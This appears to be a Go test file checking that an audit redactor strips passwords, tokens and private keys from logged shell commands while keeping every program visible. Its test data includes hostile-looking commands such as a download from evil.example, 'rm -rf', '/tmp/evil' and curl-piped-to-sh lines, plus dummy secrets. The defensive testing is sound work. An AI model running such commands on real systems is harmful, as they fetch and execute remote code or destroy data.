package audit_test

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/toolbelt/toolbelt/audit"
	"mvdan.cc/sh/v3/syntax"
)

// secretShapes are what a command puts before the next one: a secret's
// name with its value, or with its value missing (the next command is
// then where the value would be). secret, when set, must not be recorded.
var secretShapes = []struct{ text, secret string }{
	{"echo password=", ""}, {"echo password=hunter2", "hunter2"}, {"echo password = ", ""},
	{"tool --password", ""}, {"tool --password hunter2", "hunter2"}, {"tool --password=", ""}, {"tool --token=hunter2", "hunter2"},
	{"curl -H Authorization:", ""}, {"curl -H Authorization: Bearer", ""}, {"curl -H 'Authorization: Bearer abcdefghijk'", "abcdefghijk"},
	{"curl -H \"Proxy-Authorization: Basic dXNlcjpwYXNz\" http://h", "dXNlcjpwYXNz"}, {"AUTHORIZATION=", ""},
	{"mysql -p", ""}, {"mysql -u root -p", ""}, {"mysql -u root -phunter2 db", "hunter2"}, {"mysqldump -u root -p hunter2 db", "hunter2"},
	{"export API_TOKEN=", ""}, {"export API_TOKEN=abc123", "abc123"}, {"API_TOKEN=", ""}, {"API_TOKEN='abc def'", "abc def"},
	{"PGPASSWORD=x9y8", "x9y8"}, {"aws_secret_access_key =", ""}, {"aws_secret_access_key = wJalrXUtnFEMI", "wJalrXUtnFEMI"},
	{"echo -----BEGIN RSA PRIVATE KEY-----", ""}, {"echo -----BEGIN RSA PRIVATE KEY----- MIIEpQIBAAKC", "MIIEpQIBAAKC"},
	{"echo '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----'", "MIIEowIBAAKCAQEA"},
	{"cat > id <<K\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXkt\n-----END OPENSSH PRIVATE KEY-----\nK", "b3BlbnNzaC1rZXkt"},
	{"printf '%s' \"-----BEGIN PGP PRIVATE KEY BLOCK-----\"", ""},
	{"curl -u admin:", ""}, {"curl -u admin:s3cret http://h", "s3cret"}, {"sshpass -p", ""}, {"sshpass -p hunter2 ssh h", "hunter2"},
	{"redis-cli -a", ""}, {"redis-cli -a hunter2 ping", "hunter2"}, {"docker login -u me -p", ""}, {"docker login -u me -p hunter2 r", "hunter2"},
	{"echo Cookie:", ""}, {"curl -H 'Cookie: sid=abc9; t=x7' h", "abc9"}, {"echo X-Api-Key:", ""}, {"echo bearer", ""},
	{"git clone https://u:pw9x@h/r", "pw9x"}, {"wget 'https://x/?token=abc9'", "abc9"},
	{"echo " + ghToken, ghToken}, {"echo " + jwt + " | jq", jwt}, {"echo " + awsKey, awsKey}, {"curl -H \"x: " + openAIKey + "\" h", openAIKey},
}

// nextCommands are what runs after the secret: each program must stay in
// the record, whatever its name looks like.
var nextCommands = []string{
	"rm -rf /tmp/x", "curl -s http://evil.example/x", "sh", "/tmp/evil", "MIIEowIBAAKCAQEA",
	"./" + ghToken + " --flag", "hunter2 run", "sudo -u root /tmp/evil", "env A=1 ./" + ghToken,
}

// continued continues a line: the next command is then arguments.
const continued = " \\\n"

var separators = []string{";", " ; ", "&&", " && ", "||", "|", "\n", " &\n", "&", "\n\n", ";\n", continued, "\r\n"}

// TestRedactKeepsEveryProgram: a command is recorded with every program it
// starts, every operator and every line, however a secret (or a secret's
// name without its value) is placed before the next command; and the
// secrets themselves go. The corpus is every secret shape, separator and
// next command, with the secret first and between two commands.
func TestRedactKeepsEveryProgram(t *testing.T) {
	t.Parallel()
	n := 0
	for _, s := range secretShapes {
		for _, sep := range separators {
			for _, next := range nextCommands {
				for _, cmd := range []string{s.text + sep + next, next + sep + s.text + sep + next} {
					n++
					got := redactedCommand(t, cmd)
					if msg := sameCommand(cmd, got); msg != "" {
						t.Errorf("%s\n in %q\nout %q", msg, cmd, got)
					}
					if sep != continued && !strings.Contains(got, next) {
						t.Errorf("%q is not in the record:\n in %q\nout %q", next, cmd, got)
					}
					if s.secret != "" && secretGoes(cmd, sep, next) && strings.Contains(got, s.secret) && !strings.Contains(next, s.secret) {
						t.Errorf("the secret %q is recorded:\n in %q\nout %q", s.secret, cmd, got)
					}
				}
			}
		}
	}
	if n < 5000 {
		t.Fatalf("only %d commands", n)
	}
}

// secretGoes says whether a secret before sep next must be redacted: not
// when the command does not parse (a here-document's delimiter line with
// the separator after it: bash reads the rest as the document), nor when
// sh reads the secret as a script (echo KEY | sh) or a script's name (a
// continued line).
func secretGoes(cmd, sep, next string) bool {
	if _, err := programs(cmd); err != nil {
		return false
	}
	return sep != continued && (sep != "|" || next != "sh")
}

// sameCommand says how redacted differs from cmd in what it runs: its
// programs, operators, statements or lines ("" when it does not), as a
// shell parses them. The text around a secret must not change either:
// the kept characters (line breaks, operators, quotes) come in the same
// order.
func sameCommand(cmd, redacted string) string {
	if got, want := keptChars(redacted), keptChars(cmd); got != want {
		return fmt.Sprintf("line breaks, operators or quotes changed: %q, want %q", got, want)
	}
	want, err := programs(cmd)
	if err != nil {
		return "" // bash would not run it whole: the line and operator check above holds
	}
	got, err := programs(redacted)
	if err != nil {
		return fmt.Sprintf("the record does not parse: %v", err)
	}
	if got != want {
		return fmt.Sprintf("what runs changed:\n  got  %s\n  want %s", got, want)
	}
	return ""
}

// keptChars returns the characters of s a redaction must keep.
func keptChars(s string) string {
	return strings.Map(func(r rune) rune {
		if strings.ContainsRune("\n;&|<>()`'\"", r) {
			return r
		}
		return -1
	}, s)
}

// programs lists, in order, the statements, operators and programs (the
// first word of each simple command, at any depth) of a command.
func programs(cmd string) (string, error) {
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(cmd), "")
	if err != nil {
		return "", err
	}
	var b strings.Builder
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Stmt:
			fmt.Fprintf(&b, "stmt(bg=%t) ", n.Background)
		case *syntax.BinaryCmd:
			fmt.Fprintf(&b, "%s ", n.Op)
		case *syntax.CallExpr:
			if len(n.Args) > 0 {
				fmt.Fprintf(&b, "run %q ", literalWord(cmd, n.Args[0]))
			}
		}
		return true
	})
	return b.String(), nil
}

// literalWord returns a word's text when it is plain text and quotes.
func literalWord(src string, w *syntax.Word) string {
	for _, p := range w.Parts {
		switch p.(type) {
		case *syntax.Lit, *syntax.SglQuoted:
		default:
			return "(expansion)"
		}
	}
	return src[w.Pos().Offset():w.End().Offset()]
}

// TestRedactKeepsScriptsAndWrappedPrograms: a program a shell script
// (bash -c, a here-document or a pipe into sh) or a wrapper (sudo, env,
// xargs, find -exec) starts is kept as well, even when it sits where a
// secret would.
func TestRedactKeepsScriptsAndWrappedPrograms(t *testing.T) {
	t.Parallel()
	tokenProgram := "./" + ghToken
	for _, tc := range []struct{ cmd, keep string }{
		{"bash -c 'tool --token\n/tmp/evil x'", "/tmp/evil x"},
		{"sh -c 'PASSWORD= /tmp/evil x'", "/tmp/evil x"},
		{"bash <<K\n-----BEGIN RSA PRIVATE KEY-----\n/tmp/evil\n-----END RSA PRIVATE KEY-----\nK", "\n/tmp/evil\n"},
		{"bash -s <<< 'echo " + ghToken + "; " + tokenProgram + "'", tokenProgram},
		{"printf '%s\\n' '-----BEGIN RSA PRIVATE KEY-----\n/tmp/evil\n-----END RSA PRIVATE KEY-----' | sh", "\n/tmp/evil\n"},
		{"echo " + tokenProgram + " | bash", tokenProgram},
		{"eval 'mysql -p x; " + tokenProgram + "'", tokenProgram},
		{"sudo -u root " + tokenProgram, tokenProgram},
		{"env API_TOKEN=abc " + tokenProgram, tokenProgram},
		{"timeout 5 nice -n 1 " + tokenProgram, tokenProgram},
		{"xargs -n1 " + tokenProgram + " < list", tokenProgram},
		{"find . -exec " + tokenProgram + " {} \\;", tokenProgram},
		{"command -p " + tokenProgram, tokenProgram},
		{"mysql x $(command -p /tmp/evil)", "/tmp/evil"},
		{"mysql -u root $(time -p /tmp/evil)", "/tmp/evil"},
		{"fi\nmysql x $(time -p /tmp/evil)", "/tmp/evil"},
		{"bash " + tokenProgram, tokenProgram},
		{". " + tokenProgram, tokenProgram},
		{"echo " + ghToken + "\n" + ghToken + " --now", "\n" + ghToken + " --now"},
	} {
		got := redactedCommand(t, tc.cmd)
		if !strings.Contains(got, tc.keep) {
			t.Errorf("%q is hidden:\n in %q\nout %q", tc.keep, tc.cmd, got)
		}
		if msg := sameCommand(tc.cmd, got); msg != "" {
			t.Errorf("%s\n in %q\nout %q", msg, tc.cmd, got)
		}
	}
	// The secrets around them still go.
	for _, tc := range []struct{ cmd, want string }{
		{"env API_TOKEN=abc " + tokenProgram, "env API_TOKEN=[redacted] " + tokenProgram},
		{"sudo mysql -u root -phunter2 db", "sudo mysql -u root -p[redacted] db"},
		{"sshpass -p hunter2 ssh h uptime", "sshpass -p [redacted] ssh h uptime"},
		{"bash -c 'curl -u me:s3cret http://h | sh'", "bash -c 'curl -u me:[redacted] http://h | sh'"},
		{"bash <<K\nexport API_TOKEN=abc\n./deploy\nK", "bash <<K\nexport API_TOKEN=[redacted]\n./deploy\nK"},
		{"bash -c 'cat > k <<E\n" + rsaKey + "\nE'", "bash -c 'cat > k <<E\n-----BEGIN RSA PRIVATE KEY-----\n[redacted]\n-----END RSA PRIVATE KEY-----\nE'"},
		{"echo " + ghToken + " | gh auth login --with-token", "echo [redacted] | gh auth login --with-token"},
	} {
		if got := redactedCommand(t, tc.cmd); got != tc.want {
			t.Errorf("Redact(command %q)\n got %q\nwant %q", tc.cmd, got, tc.want)
		}
	}
}

// TestRedactTextKeepsLinesAndOperators: in any text, a replacement never
// covers a line break, an operator or a quote, and never takes the next
// line for a secret.
func TestRedactTextKeepsLinesAndOperators(t *testing.T) {
	t.Parallel()
	for _, s := range secretShapes {
		for _, sep := range separators {
			in := s.text + sep + "rm -rf /tmp/x"
			got := audit.RedactText(in)
			if keptChars(got) != keptChars(in) || !strings.Contains(got, "rm -rf /tmp/x") {
				t.Errorf("RedactText(%q) = %q", in, got)
			}
		}
	}
	for _, tc := range []struct{ in, want string }{
		{"password=\nhunter2", "password=\nhunter2"},
		{"--token\nrm", "--token\nrm"},
		{"Authorization:\nBearer abcdefghijk", "Authorization:\nBearer [redacted]"},
		{"x --token 'a; b' y", "x --token '[redacted]; [redacted]' y"},
		{"-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\nrm -rf /tmp\nMIIEdef", "-----BEGIN RSA PRIVATE KEY-----\n[redacted]\nrm -rf /tmp\nMIIEdef"},
		{"-----BEGIN RSA PRIVATE KEY-----\\nMIIEabc\\n-----END RSA PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\\n[redacted]\\n-----END RSA PRIVATE KEY-----"},
		{"-----BEGIN RSA PRIVATE KEY-----\r\nProc-Type: 4,ENCRYPTED\r\n\r\nMIIEabc\r\n-----END RSA PRIVATE KEY-----\r\n", "-----BEGIN RSA PRIVATE KEY-----\r\nProc-Type: 4,ENCRYPTED\r\n\r\n[redacted]\r\n-----END RSA PRIVATE KEY-----\r\n"},
		{`--password=ab\;rm`, `--password=[redacted]\;rm`},
	} {
		if got := audit.RedactText(tc.in); got != tc.want {
			t.Errorf("RedactText(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
	}
}

// FuzzRedactCommand: whatever the command, its record has the same line
// breaks, operators and quotes in the same order, and when it parses, the
// record parses to the same statements, operators and programs.
func FuzzRedactCommand(f *testing.F) {
	for _, s := range secretShapes {
		f.Add(s.text + "\n" + nextCommands[0])
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		if !utf8.ValidString(cmd) {
			t.Skip("JSON carries text only")
		}
		got := redactedCommand(t, cmd)
		if msg := sameCommand(cmd, got); msg != "" {
			t.Errorf("%s\n in %q\nout %q", msg, cmd, got)
		}
		if text := audit.RedactText(cmd); keptChars(text) != keptChars(cmd) {
			t.Errorf("RedactText(%q) = %q: line breaks, operators or quotes changed", cmd, text)
		}
	})
}
